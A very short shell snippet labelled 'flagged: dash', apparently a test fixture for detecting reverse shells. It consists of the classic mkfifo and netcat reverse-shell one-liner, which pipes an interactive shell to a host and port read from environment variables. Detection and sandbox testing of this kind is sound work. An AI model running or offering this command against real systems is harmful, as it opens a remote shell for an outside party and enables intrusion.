# flagged: dash
mkfifo back
(cat back | timeout 0.5 sh -i 2>&1 | timeout 0.5 nc "$RG_TCP_HOST" "$RG_TCP_PORT" > back) || true
